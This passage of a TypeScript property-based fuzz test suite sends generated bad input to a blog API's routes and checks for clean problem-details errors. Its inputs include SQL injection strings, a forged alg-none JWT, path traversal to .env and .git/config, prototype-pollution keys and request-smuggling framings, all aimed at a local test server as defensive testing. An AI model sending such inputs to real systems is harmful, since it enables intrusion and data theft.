    'Bearer ...',
    'Bearer eyJ',
    'Bearer eyJhbGciOiJub25lIn0.e30.',
    'Basic dXNlcjpwYXNz',
    'Basic',
    'Token abc',
    'Digest username="a"',
    'Negotiate YIIB',
    'Bearer \t x',
    ', Bearer x',
    'Bearer x, Bearer y',
    "Bearer ' OR 1=1 --",
    `Bearer ${'a'.repeat(8000)}`,
    `Bearer ${'eyJ'.repeat(2000)}.${'e30'.repeat(500)}.${'x'.repeat(500)}`,
  ),
  fc
    .tuple(fc.constantFrom('Bearer', 'bearer', 'BEARER', 'Basic', 'JWT', ''), headerText)
    .map(([scheme, text]) => `${scheme} ${text}`),
  fc
    .array(fc.base64String({ maxLength: 60 }), { minLength: 1, maxLength: 4 })
    .map((parts) => `Bearer ${parts.join('.')}`),
  fc
    .tuple(smallJson, smallJson, fc.base64String({ maxLength: 44 }))
    .map(
      ([header, payload, signature]) =>
        `Bearer ${base64url(JSON.stringify(header))}.${base64url(JSON.stringify(payload) ?? '')}.${signature}`,
    ),
);

const authorization: fc.Arbitrary<Fixture | string | undefined> = fc.oneof(
  { weight: 3, arbitrary: fc.constantFrom(F.aliceBearer, F.bobBearer) },
  { weight: 1, arbitrary: fc.constant(undefined) },
  { weight: 3, arbitrary: fc.constantFrom(...FORGED_BEARERS) },
  { weight: 3, arbitrary: signedClaims },
  { weight: 3, arbitrary: garbageAuthorization },
);

const HEADER_NAMES = words(`
  X-Request-Id Accept Accept-Language Accept-Encoding User-Agent X-Forwarded-For X-Forwarded-Proto X-Real-IP
  Forwarded Cookie Origin Referer If-None-Match If-Modified-Since Range Cache-Control Content-Encoding
  X-HTTP-Method-Override Prefer
`);

/** At most four, each at most 1,000 characters: with an 8 KB token they stay under 16 KiB. */
const extraHeaders = fc.dictionary(
  fc.oneof(fc.constantFrom(...HEADER_NAMES), fc.stringMatching(/^X-[A-Za-z0-9-]{1,20}$/)),
  fc.oneof(
    headerText,
    fc.constantFrom(
      'application/json',
      '*/*',
      'text/html;q=0',
      'gzip, deflate, br',
      'bytes=0-0',
      'bytes=-1',
      '1.2.3.4, 999.1.1.1',
      'for=unknown;proto=gopher',
      'DELETE',
      'gzip',
    ),
  ),
  { maxKeys: 4 },
);

const NUMBERISH = [
  ...words('-1 0 1 100 101 1.5 1e3 1e400 0x10 0b1 +5 10abc Infinity -Infinity NaN null true [] {} -0 00010 1_000'),
  ...words('2147483647 2147483648 9007199254740993'),
  ' 5',
  '5 ',
  '\u0663',
  '\uFF11',
  '9'.repeat(30),
];

/** Cursors: well-formed ones with extreme values, and anything else. */
const cursorText = fc.oneof(
  fc
    .tuple(fc.bigInt({ min: -(10n ** 17n), max: 10n ** 17n }), fc.integer({ min: -5, max: MAX_ID }))
    .map(([micros, id]) => base64url(`${micros}.${id}`)),
  fc.constantFrom(
    base64url('99999999999999999.2147483647'),
    base64url('-99999999999999999.1'),
    base64url(`1.${MAX_ID + 1}`),
  ),
  shortHostileText.map((text) => base64url(text)),
  fc.constantFrom('', '.', '====', 'MTIz', 'a'.repeat(65), '%00'),
);

function queryKey(operation: Operation) {
  const names = operation.queryNames.length > 0 ? operation.queryNames : ['limit', 'skip', 'search', 'cursor'];
  return fc.oneof(
    { weight: 6, arbitrary: fc.constantFrom(...names) },
    {
      weight: 2,
      arbitrary: fc.constantFrom(
        ...names.flatMap((name) => [`${name}[]`, `${name}[0]`, `${name}[a]`, name.toUpperCase()]),
      ),
    },
    {
      weight: 2,
      arbitrary: fc.constantFrom(...PROTOTYPE_KEYS, '__proto__[limit]', 'constructor[prototype][limit]', ''),
    },
    { weight: 1, arbitrary: shortHostileText },
  );
}

const queryValue = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...NUMBERISH) },
  { weight: 3, arbitrary: shortHostileText },
  { weight: 2, arbitrary: cursorText },
  { weight: 1, arbitrary: fc.constant('') },
);

/** Query text as it goes on the wire: encoded pairs, repeated keys, and fragments that are not pairs. */
function queryOf(operation: Operation): fc.Arbitrary<string> {
  const pairs = fc
    .array(fc.tuple(queryKey(operation), queryValue), { minLength: 1, maxLength: 5 })
    .map((items) => items.map(([key, value]) => `${percentEncode(key)}=${percentEncode(value)}`).join('&'));
  const fragments = fc.constantFrom(
    'limit',
    'limit=',
    '&&',
    '=',
    '%',
    '%zz=1',
    'limit=%FF%FE',
    'search=%00',
    'search=%F0%9F',
    'search=%ED%A0%80',
    'limit=1;skip=2',
    'limit=1&limit=2',
    'limit[]=1&limit[]=2',
    'skip=1&cursor=MTIzLjQ',
    'limit=1&__proto__[limit]=5',
    '?limit=1',
  );
  return fc.oneof({ weight: 4, arbitrary: pairs }, { weight: 1, arbitrary: fragments });
}

const PATH_SEGMENTS = [
  ...words('0 -1 -0 1.5 1e3 1E3 0x1F 0b1 +1 %201 1%20 01 2147483647 2147483648 4294967296 99999999999'),
  ...words("NaN Infinity null undefined true me ; 1;drop 1%3B%20DROP%20TABLE%20posts%3B%20-- 1'%20OR%20'1'%3D'1"),
  // Encoded slashes, dots, NUL, RTL override, full-width and Arabic-Indic digits, emoji, broken escapes.
  ...words('%2F 1%2F2 %2e%2e %2e%2e%2f%2e%2e %00 1%00 %E2%80%AE1 %EF%BC%91 %D9%A3 %F0%9F%91%8D % %ZZ %FF'),
  '9'.repeat(300),
  '1'.repeat(101),
  'a'.repeat(5000),
];

/** An id segment: a real id (own post, another user's, a draft, a deleted user) or garbage. */
const pathSegment: fc.Arbitrary<string | Fixture> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...ALL_IDS) },
  { weight: 5, arbitrary: fc.constantFrom(...PATH_SEGMENTS) },
  { weight: 1, arbitrary: fc.oneof(fc.integer(), fc.double()).map((n) => percentEncode(String(n))) },
  { weight: 2, arbitrary: shortHostileText.map(percentEncode) },
);

const UNKNOWN_PATHS = [
  ...words('/ /admin /api /api/posts /posts/1/comments /users/me/posts /POSTS /Posts //posts /posts//1 /posts/1//'),
  ...words('/./posts /%2e/posts /posts%2F1 /.env /.git/config /favicon.ico /auth /auth/sessions/1/2 /vote/1 /login/x'),
  ...words('/redoc/x /openapi.json/x /health/x /docs/nothing-here /docs/swagger-ui-bundle.js.map'),
  // Traversal out of the docs assets, NUL, bytes that are not UTF-8, a broken escape, very long paths.
  ...words('/docs/%2e%2e/%2e%2e/package.json /docs/..%2F..%2Fpackage.json /%00 /users/%00 /%FF /%'),
  `/${'a'.repeat(5000)}`,
  '/a'.repeat(1000),
];

// ---------------------------------------------------------------------------------------
// The checks
// ---------------------------------------------------------------------------------------

function isSuccess(status: number): boolean {
  return status >= 200 && status < 300;
}

function headerOf(answer: Answer, name: string): string {
  const value = answer.headers[name];
  return Array.isArray(value) ? value.join(', ') : (value ?? '');
}

/** Rules 1 and 2, and the headers the contract adds to some errors. */
function contractBreaches(plan: RequestPlan, answer: Answer): string[] {
  const breaches: string[] = [];
  if (answer.status >= 500) {
    breaches.push(`answered ${answer.status}: nothing a client sends may be a server error while the database is up`);
  }
  if (isSuccess(answer.status)) {
    // Any 2xx may have any body: a 204 has none, the docs pages are HTML, JavaScript, JSON or YAML.
    return breaches;
  }
  const contentType = headerOf(answer, 'content-type');
  if (!/^application\/problem\+json\b/.test(contentType)) {
    breaches.push(`an error answered with Content-Type "${contentType}", not application/problem+json`);
  }
  // An answer to HEAD has no body, only the headers of one.
  if (plan.method !== 'HEAD') {
    let body: unknown;
    try {
      body = JSON.parse(answer.text);
    } catch {
      body = undefined;
    }
    const problem = (body ?? {}) as Record<string, unknown>;
    for (const member of ['type', 'title', 'detail']) {
      if (typeof problem[member] !== 'string' || problem[member] === '') {
        breaches.push(`the problem details have no "${member}" text`);
      }
    }
    if (problem.status !== answer.status) {
      breaches.push(`the problem's status is ${fc.stringify(problem.status)}, the answer's ${answer.status}`);
    }
  }
  if (answer.status === 401 && plan.operation?.secured && !/^Bearer\b/.test(headerOf(answer, 'www-authenticate'))) {
    breaches.push('a 401 of a protected route without "WWW-Authenticate: Bearer"');
  }
  if (answer.status === 429 && headerOf(answer, 'retry-after') === '') {
    breaches.push('a 429 without Retry-After');
  }
  return breaches;
}

interface SessionRow {
  id: number;
  revoked_at: string | null;
  previous_refresh_token_hash: string | null;
  [column: string]: unknown;
}

interface TablesSnapshot {
  /** md5 of every row of each table, in a stable order. */
  fingerprints: Record<string, string>;
  sessions: SessionRow[];
}

function changedTables(before: TablesSnapshot, after: TablesSnapshot): string[] {
  return Object.keys(before.fingerprints).filter((table) => before.fingerprints[table] !== after.fingerprints[table]);
}

/** The refresh token the request presented, as the service would read it from JSON or the form. */
function presentedRefreshToken(request: SentRequest): string | undefined {
  const text = request.body?.toString('utf8') ?? '';
  try {
    const parsed: unknown = JSON.parse(text);
    const token = (parsed as { refresh_token?: unknown } | null)?.refresh_token;
    return typeof token === 'string' ? token : undefined;
  } catch {
    return new URLSearchParams(text).get('refresh_token') ?? undefined;
  }
}

/**
 * The one refused request the contract lets change a table: a spent refresh token presented
 * again is taken as theft, answered 401, and its session is revoked. Allowed only when that
 * is all that changed: one session, revoked now, whose previous token is the one presented.
 */
function isRefreshTokenReuseRevocation(
  request: SentRequest,
  answer: Answer,
  before: TablesSnapshot,
  after: TablesSnapshot,
): boolean {
  const route = request.url.split('?')[0].replace(/\/$/, '');
  const presented = presentedRefreshToken(request);
  if (request.method !== 'POST' || route !== '/auth/refresh' || answer.status !== 401 || presented === undefined) {
    return false;
  }
  if (
    changedTables(before, after).some((table) => table !== 'sessions') ||
    before.sessions.length !== after.sessions.length
  ) {
    return false;
  }
  const changed = after.sessions.filter((row, index) => JSON.stringify(row) !== JSON.stringify(before.sessions[index]));
  if (changed.length !== 1) {
    return false;
  }
  const revoked = changed[0];
  const previous = before.sessions.find((row) => row.id === revoked.id);
  return (
    previous !== undefined &&
    previous.revoked_at === null &&
    revoked.revoked_at !== null &&
    revoked.previous_refresh_token_hash === sha256(presented) &&
    JSON.stringify({ ...previous, revoked_at: null }) === JSON.stringify({ ...revoked, revoked_at: null })
  );
}

// ---------------------------------------------------------------------------------------
// Raw sockets: framings an ordinary HTTP client refuses to send
// ---------------------------------------------------------------------------------------

interface Framing {
  name: string;
  /** The bytes on the wire for a request line, its headers and a JSON body. */
  write: (requestLine: string, headers: string[], body: Buffer) => Buffer;
}

const CRLF = '\r\n';
const headBytes = (lines: string[]) => Buffer.from(lines.join(CRLF) + CRLF + CRLF, 'latin1');

const FRAMINGS: Framing[] = [
  {
    name: 'Content-Length shorter than the body',
    write: (line, headers, body) =>
      Buffer.concat([headBytes([line, ...headers, `Content-Length: ${Math.floor(body.length / 2)}`]), body]),
  },
  {
    name: 'Content-Length that is not a number',
    write: (line, headers, body) => Buffer.concat([headBytes([line, ...headers, 'Content-Length: abc']), body]),
  },
  {
    name: 'negative Content-Length',
    write: (line, headers, body) => Buffer.concat([headBytes([line, ...headers, 'Content-Length: -1']), body]),
  },
  {
    name: 'two different Content-Lengths',
    write: (line, headers, body) =>
      Buffer.concat([headBytes([line, ...headers, `Content-Length: ${body.length}`, 'Content-Length: 1']), body]),
  },
  {
    name: 'Content-Length and chunked together',
    write: (line, headers, body) =>
      Buffer.concat([
        headBytes([line, ...headers, `Content-Length: ${body.length}`, 'Transfer-Encoding: chunked']),
        Buffer.from(`${body.length.toString(16)}${CRLF}`),
        body,
        Buffer.from(`${CRLF}0${CRLF}${CRLF}`),
      ]),
  },
  {
    name: 'a chunk size that is not hexadecimal',
    write: (line, headers, body) =>
      Buffer.concat([headBytes([line, ...headers, 'Transfer-Encoding: chunked']), Buffer.from(`zz${CRLF}`), body]),
  },
  {
    name: 'a well-formed chunked body',
    write: (line, headers, body) =>
      Buffer.concat([
        headBytes([line, ...headers, 'Transfer-Encoding: chunked']),
        Buffer.from(`${body.length.toString(16)}${CRLF}`),
        body,
        Buffer.from(`${CRLF}0${CRLF}${CRLF}`),
      ]),
  },
  {
    name: 'a chunked body over the size limit',
    write: (line, headers) => {
      const chunk = Buffer.from(`{"title":"x","content":"${'a'.repeat(BODY_LIMIT_BYTES)}"}`);
      return Buffer.concat([
        headBytes([line, ...headers, 'Transfer-Encoding: chunked']),
        Buffer.from(`${chunk.length.toString(16)}${CRLF}`),
        chunk,
        Buffer.from(`${CRLF}0${CRLF}${CRLF}`),
      ]);
    },
  },
  {
    name: 'headers over 16 KiB',
    write: (line, headers, body) =>
      Buffer.concat([
        headBytes([line, ...headers, `X-Padding: ${'a'.repeat(MAX_HEADER_BYTES)}`, `Content-Length: ${body.length}`]),
        body,
      ]),
  },
  {
    name: 'an Authorization header over 16 KiB',
    write: (line, headers, body) =>
      Buffer.concat([
        headBytes([
          line,
          ...headers.filter((header) => !header.startsWith('Authorization')),
          `Authorization: Bearer ${'a'.repeat(MAX_HEADER_BYTES + 1000)}`,
          `Content-Length: ${body.length}`,
        ]),
        body,
      ]),
  },
  {
    name: 'no Host header',
    write: (line, headers, body) =>
      Buffer.concat([
        headBytes([line, ...headers.filter((header) => !header.startsWith('Host')), `Content-Length: ${body.length}`]),
        body,
      ]),
  },
  {
    name: 'a header name with a space',
    write: (line, headers, body) =>
      Buffer.concat([headBytes([line, ...headers, 'Bad Header: x', `Content-Length: ${body.length}`]), body]),
  },
  {
    name: 'two Content-Types',
    write: (line, headers, body) =>
      Buffer.concat([
        headBytes([line, ...headers, 'Content-Type: text/plain', `Content-Length: ${body.length}`]),
        body,
      ]),
  },
];

/** Sends one request on a raw socket and reads the first answer. */
function sendOverSocket(port: number, request: SentRequest): Promise<Answer> {
  const framing = FRAMINGS.find((candidate) => candidate.name === request.framing) as Framing;
  const headers = Object.entries(request.headers).map(([name, value]) => `${name}: ${value}`);
  const bytes = framing.write(
    `${request.method} ${request.url} HTTP/1.1`,
    [`Host: 127.0.0.1:${port}`, 'Connection: close', ...headers],
    request.body ?? Buffer.alloc(0),
  );
  return new Promise((resolvePromise, reject) => {
    const chunks: Buffer[] = [];
    // No half-close: the server may take the end of the input for an aborted request.
    const socket = connect(port, '127.0.0.1', () => socket.write(bytes));
    socket.setTimeout(REQUEST_TIMEOUT_MS, () => socket.destroy(new Error('timed out')));
    socket.on('data', (chunk: Buffer) => chunks.push(chunk));
    // The server may reset the connection after answering: what arrived is the answer.
    socket.on('error', (error) => (chunks.length > 0 ? undefined : reject(error)));
    socket.on('close', () => {
      const answer = parseAnswer(Buffer.concat(chunks));
      if (answer) {
        resolvePromise(answer);
      } else {
        reject(new Error('the connection closed without an answer'));
      }
    });
  });
}

function parseAnswer(bytes: Buffer): Answer | undefined {
  const end = bytes.indexOf(`${CRLF}${CRLF}`);
  if (end < 0) {
    return undefined;
  }
  const [statusLine, ...headerLines] = bytes.subarray(0, end).toString('latin1').split(CRLF);
  const status = Number(statusLine.split(' ')[1]);
  const headers: Answer['headers'] = {};
  for (const line of headerLines) {
    const colon = line.indexOf(':');
    headers[line.slice(0, colon).trim().toLowerCase()] = line.slice(colon + 1).trim();
  }
  let body = bytes.subarray(end + 4);
  const length = headers['content-length'];
  if (typeof length === 'string') {
    body = body.subarray(0, Number(length));
  } else if (headers['transfer-encoding'] === 'chunked') {
    body = dechunk(body);
  }
  return { status, headers, text: body.toString('utf8') };
}

function dechunk(bytes: Buffer): Buffer {
  const chunks: Buffer[] = [];
  let offset = 0;
  for (;;) {
    const lineEnd = bytes.indexOf(CRLF, offset);
    const size = lineEnd < 0 ? 0 : parseInt(bytes.subarray(offset, lineEnd).toString('latin1'), 16);
    if (!size) {
      return Buffer.concat(chunks);
    }
    chunks.push(bytes.subarray(lineEnd + 2, lineEnd + 2 + size));
    offset = lineEnd + 2 + size + 2;
  }
}

// ---------------------------------------------------------------------------------------
// The suite
// ---------------------------------------------------------------------------------------

describe('Bad input on every route (generated)', () => {
  let t: TestApp;
  let operations: Operation[];
  let snapshotQuery: string;
  let state: FixtureState;

  async function passwordHashOf(id: number): Promise<string> {
    const { rows } = await t.db.query<{ password_hash: string }>('SELECT password_hash FROM users WHERE id = $1', [id]);
    return rows[0].password_hash;
  }

  async function newAccount(): Promise<Account> {
    const user = await registerUser(t);
    return { ...user, passwordHash: await passwordHashOf(user.id) };
  }

  async function createPost(owner: Account, published: boolean): Promise<number> {
    const response = await t
      .http()
      .post('/posts')
      .set(owner.auth)
      .send({ title: published ? 'Published fixture' : 'Draft fixture', content: 'Fixture content', published });
    expect(response.status).toBe(201);
    return response.body.id as number;
  }

  async function newSpentSession(alice: Account): Promise<FixtureState['spent']> {
    const session = await logIn(t, alice.email);
    await t.http().post('/auth/refresh').send({ refresh_token: session.refreshToken }).expect(200);
    return { sessionId: session.sessionId, refreshToken: session.refreshToken };
  }

  /** The account as it was: re-registered if deleted, its password back, logged in again if its session ended. */
  async function restoreAccount(account: Account): Promise<Account> {
    const { rows } = await t.db.query<{ password_hash: string }>('SELECT password_hash FROM users WHERE id = $1', [
      account.id,
    ]);
    if (rows.length === 0) {
      return newAccount();
    }
    if (rows[0].password_hash !== account.passwordHash) {
      // A generated PUT /users/me/password went through: back to the password the fixtures log in with.
      await t.db.query('UPDATE users SET password_hash = $1 WHERE id = $2', [account.passwordHash, account.id]);
    }
    const live = await t.db.query(
      'SELECT 1 FROM sessions WHERE id = $1 AND refresh_token_hash = $2 AND revoked_at IS NULL AND expires_at > now()',
      [account.sessionId, sha256(account.refreshToken)],
    );
    return live.rowCount ? account : { ...account, ...(await logIn(t, account.email)) };
  }

  async function restorePost(id: number, owner: Account, published: boolean): Promise<number> {
    const { rows } = await t.db.query<{ owner_id: number; published: boolean }>(
      'SELECT owner_id, published FROM posts WHERE id = $1',
      [id],
    );
    if (rows[0]?.owner_id !== owner.id) {
      return createPost(owner, published);
    }
    if (rows[0].published !== published) {
      await t.db.query('UPDATE posts SET published = $1 WHERE id = $2', [published, id]);
    }
    return id;
  }

  /**
   * A generated request that succeeded may have deleted an account, logged a session out,
   * changed a password or deleted a post: put the fixtures back so the next requests still
   * reach the rules behind the guard.
   */
  async function restoreFixtures(): Promise<void> {
    const alice = await restoreAccount(state.alice);
    const bob = await restoreAccount(state.bob);
    const spentIsLive = await t.db.query(
      'SELECT 1 FROM sessions WHERE id = $1 AND user_id = $2 AND revoked_at IS NULL',
      [state.spent.sessionId, alice.id],
    );
    state = {
      ...state,
      alice,
      bob,
      posts: {
        alicePublished: await restorePost(state.posts.alicePublished, alice, true),
        aliceDraft: await restorePost(state.posts.aliceDraft, alice, false),
        bobPublished: await restorePost(state.posts.bobPublished, bob, true),
        bobDraft: await restorePost(state.posts.bobDraft, bob, false),
      },
      spent: spentIsLive.rowCount ? state.spent : await newSpentSession(alice),
    };
  }

  async function snapshot(): Promise<TablesSnapshot> {
    const { rows } = await t.db.query<Record<string, unknown>>(snapshotQuery);
    const { session_rows: sessions, ...fingerprints } = rows[0];
    return { fingerprints: fingerprints as Record<string, string>, sessions: sessions as SessionRow[] };
  }

  function resolve(plan: RequestPlan): SentRequest {
    const path = plan.path.map((part) => (part instanceof Fixture ? String(part.resolve(state)) : part)).join('');
    const headers: Record<string, string> = { ...plan.headers };
    if (plan.authorization !== undefined) {
      headers.Authorization =
        plan.authorization instanceof Fixture ? String(plan.authorization.resolve(state)) : plan.authorization;
    }
    let body: Buffer | undefined;
    const planned = plan.body;
    if (planned?.kind === 'json') {
      body = Buffer.from(toJsonText(planned.value, state), 'utf8');
    } else if (planned?.kind === 'form') {
      const pairs = planned.pairs.map(([key, value]) => {
        const text = value instanceof Fixture ? String(value.resolve(state)) : value;
        return `${percentEncode(key)}=${percentEncode(text)}`;
      });
      body = Buffer.from(pairs.join('&'), 'utf8');
    } else if (planned?.kind === 'raw') {
      body = Buffer.isBuffer(planned.data) ? planned.data : Buffer.from(planned.data, 'utf8');
    }
    if (planned?.contentType !== undefined) {
      headers['Content-Type'] = planned.contentType;
    }
    const url = plan.query === undefined ? path : `${path}?${plan.query}`;
    return { method: plan.method, url, headers, body, framing: plan.framing };
  }

  async function sendWithSupertest(request: SentRequest): Promise<Answer> {
    let call = t
      .http()
      [request.method.toLowerCase() as Lowercase<Method>](request.url)
      .timeout(REQUEST_TIMEOUT_MS)
      .set(request.headers)
      // The answer as text whatever its Content-Type: checking it is the point.
      .buffer(true)
      .parse((response, callback) => {
        const chunks: Buffer[] = [];
        response.on('data', (chunk: Buffer) => chunks.push(chunk));
        response.on('end', () => callback(null, Buffer.concat(chunks).toString('utf8')));
      });
    if (request.body !== undefined) {
      // The bytes as they are: no Content-Type added, and no JSON or form serializer applied to the Buffer.
      call = call.serialize((bytes: Buffer) => bytes as unknown as string).send(request.body);
    }
    const response = await call;
    return {
      status: response.status,
      headers: response.headers,
      text: typeof response.body === 'string' ? response.body : '',
    };
  }

  /** Sends one request and checks the three rules; throws with the whole exchange otherwise. */
  async function exercise(
    plan: RequestPlan,
    send: (request: SentRequest) => Promise<Answer> = sendWithSupertest,
  ): Promise<number> {
    const request = resolve(plan);
    const before = await snapshot();
    let answer: Answer;
    try {
      answer = await send(request);
    } catch (error) {
      await restoreFixtures();
      throw new Error(`No answer (${(error as Error).message})\n${describeExchange(request, undefined)}`);
    }
    const after = await snapshot();
    const breaches = contractBreaches(plan, answer);
    const changed = changedTables(before, after);
    if (
      changed.length > 0 &&
      !isSuccess(answer.status) &&
      !isRefreshTokenReuseRevocation(request, answer, before, after)
    ) {
      breaches.push(`a refused request (${answer.status}) changed the tables ${changed.join(', ')}`);
    }
    if (changed.length > 0 || (isSuccess(answer.status) && !['GET', 'HEAD'].includes(plan.method))) {
      await restoreFixtures();
    }
    if (breaches.length > 0) {
      throw new Error(`${breaches.join('\n')}\n${describeExchange(request, answer)}`);
    }
    return answer.status;
  }

  /**
   * Runs the property. Every route of `mustReach` (all of them unless told otherwise) must also
   * have answered at least once with something other than 401: proof that the generated input
   * reached what the guard protects.
   */
  async function check(
    plans: fc.Arbitrary<RequestPlan>,
    numRuns: number,
    {
      mustReach = operations,
      send,
    }: { mustReach?: Operation[]; send?: (request: SentRequest) => Promise<Answer> } = {},
  ): Promise<void> {
    const reachedPastGuard = new Set<string>();
    await fc.assert(
      fc.asyncProperty(plans.map(describable), async (plan) => {
        const status = await exercise(plan, send);
        if (plan.operation && status !== 401) {
          reachedPastGuard.add(keyOf(plan.operation));
        }
      }),
      { numRuns, seed: SEED },
    );
    const routes = mustReach.map(keyOf);
    expect([...reachedPastGuard].filter((route) => routes.includes(route)).sort()).toEqual(routes.sort());
  }

  /** Requests to one documented route: a real post id, mostly alice, a body that could pass, unless told otherwise. */
  function requestsTo(
    operation: Operation,
    parts: Partial<{ [part in keyof RequestPlan]: fc.Arbitrary<RequestPlan[part]> }> = {},
  ): fc.Arbitrary<RequestPlan> {
    return fc.record({
      operation: fc.constant(operation),
      method: fc.constant(operation.method),
      path: parts.path ?? fc.constantFrom(...POST_IDS).map((id) => pathOf(operation, id)),
      query: parts.query ?? fc.constant(undefined),
      authorization: parts.authorization ?? caller,
      headers: parts.headers ?? fc.constant({}),
      body: parts.body ?? plausibleBodyOf(operation),
    });
  }

  const operationArbitrary = () => fc.constantFrom(...operations);

  beforeAll(async () => {
    t = await createTestApp(APP_ENVIRONMENT);
    // One listening server for every request (and for the raw sockets below).
    await t.app.listen(0, '127.0.0.1');
    const document = (await t.http().get('/openapi.json').expect(200)).body as OpenApiDocument;
    operations = operationsOf(document);

    const { rows } = await t.db.query<{ name: string }>(
      `SELECT table_name AS name FROM information_schema.tables
       WHERE table_schema = 'public' AND table_type = 'BASE TABLE' AND table_name <> 'migrations' ORDER BY 1`,
    );
    const tables = rows.map((row) => row.name);
    expect(tables).toEqual(expect.arrayContaining(['users', 'posts', 'votes', 'sessions']));
    const fingerprints = tables.map(
      (table) =>
        `(SELECT md5(coalesce(string_agg(r::text, E'\\n' ORDER BY r::text), '')) FROM "${table}" r) AS "${table}"`,
    );
    snapshotQuery = `SELECT ${fingerprints.join(', ')},
      (SELECT coalesce(json_agg(s ORDER BY s.id), '[]'::json) FROM sessions s) AS session_rows`;

    const alice = await newAccount();
    const bob = await newAccount();
    const deleted = await registerUser(t);
    await t.http().delete('/users/me').set(deleted.auth).send({ password: TEST_PASSWORD }).expect(204);
    const loggedOut = await logIn(t, alice.email);
    await t.http().post('/auth/logout').set(loggedOut.auth).expect(204);
    state = {
      alice,
      bob,
      posts: {
        alicePublished: await createPost(alice, true),
        aliceDraft: await createPost(alice, false),
        bobPublished: await createPost(bob, true),
        bobDraft: await createPost(bob, false),
      },
      spent: await newSpentSession(alice),
      deletedUser: { id: deleted.id, token: deleted.token },
      loggedOutToken: loggedOut.token,
    };
  });

  afterAll(async () => {
    await t?.close();
  });

  // Wrong types, missing and extra fields, nulls, nesting, huge and hostile strings, on every route.
  it(
    'answers generated JSON and form bodies without a 5xx, with problem details, and changes nothing it refuses',
    async () => {
      const plans = operationArbitrary().chain((operation) => requestsTo(operation, { body: bodyOf(operation) }));
      await check(plans, 1500);
    },
    PROPERTY_TIMEOUT_MS,
  );

  // Malformed JSON, bytes that are not UTF-8, mislabelled and missing Content-Types, bodies over the limit.
  it(
    'answers malformed, mislabelled and oversized raw bodies with 4xx problem details',
    async () => {
      const plans = operationArbitrary().chain((operation) => requestsTo(operation, { body: rawBody(operation) }));
      await check(plans, 800);
    },
    PROPERTY_TIMEOUT_MS,
  );

  // limit/skip/search/cursor garbage, repeated keys, bracket arrays, prototype keys, on every route.
  it(
    'answers generated query strings without a 5xx and with problem details',
    async () => {
      const plans = operationArbitrary().chain((operation) =>
        requestsTo(operation, {
          path: fc.tuple(fc.constantFrom(...POST_IDS), fc.boolean()).map(([id, slash]) => pathOf(operation, id, slash)),
          query: queryOf(operation),
        }),
      );
      await check(plans, 700);
    },
    PROPERTY_TIMEOUT_MS,
  );

  // Ids that are not positive integers, or do not fit the column, or are someone else's.
  it(
    'answers generated path ids without a 5xx, with problem details, and changes nothing it refuses',
    async () => {
      const templated = operations.filter((operation) => operation.template.includes('{'));
      const plans = fc.constantFrom(...templated).chain((operation) =>
        requestsTo(operation, {
          path: fc.tuple(pathSegment, fc.boolean()).map(([segment, slash]) => pathOf(operation, segment, slash)),
        }),
      );
      await check(plans, 700, { mustReach: templated });
    },
    PROPERTY_TIMEOUT_MS,
  );

  // Forged, expired, foreign and malformed tokens, and odd headers, on every route.
  it(
    'answers forged tokens and hostile headers with 401 problem details or the normal answer, never a 5xx',
    async () => {
      const plans = operationArbitrary().chain((operation) =>
        requestsTo(operation, { authorization, headers: extraHeaders }),
      );
      // Most tokens here are refused by design: the other properties prove the routes are reached.
      await check(plans, 800, { mustReach: [] });
    },
    PROPERTY_TIMEOUT_MS,
  );

  // Paths and methods the API does not have, and documented paths with another method: problem details.
  it(
    'answers unknown paths and methods with problem details',
    async () => {
      const knownPathWrongMethod = fc
        .tuple(operationArbitrary(), fc.constantFrom(...ANY_METHOD))
        .map(([operation, method]) => ({
          operation: method === operation.method ? operation : undefined,
          method,
          path: pathOf(operation, F.alicePublishedPost),
        }));
      const unknownPath = fc
        .tuple(
          fc.constantFrom(...ANY_METHOD),
          fc.oneof(
            fc.constantFrom(...UNKNOWN_PATHS),
            fc.webPath().map((path) => `/${path.replace(/^\//, '')}`),
          ),
        )
        .map(([method, path]) => ({ method, path: [path] }));
      const plans = fc
        .tuple(fc.oneof(knownPathWrongMethod, unknownPath), caller)
        .map(([target, auth]): RequestPlan => ({ ...target, authorization: auth, headers: {} }));
      await check(plans, 400, { mustReach: [] });
    },
    PROPERTY_TIMEOUT_MS,
  );

  // What a client built on raw sockets can send: Content-Length that lies, chunking, oversized headers.
  it(
    'answers broken HTTP framing with problem details',
    async () => {
      const { port } = t.app.getHttpServer().address() as AddressInfo;
      const bodyOperations = operations.filter((operation) => operation.bodyTypes.length > 0);
      const plans = fc
        .tuple(fc.constantFrom(...bodyOperations), fc.constantFrom(...FRAMINGS.map((framing) => framing.name)))
        .chain(([operation, framing]) =>
          requestsTo(operation, { authorization: fc.constant(F.aliceBearer) }).map((plan) => ({ ...plan, framing })),
        );
      await check(plans, 100, { mustReach: [], send: (request) => sendOverSocket(port, request) });
    },
    PROPERTY_TIMEOUT_MS,
  );
});
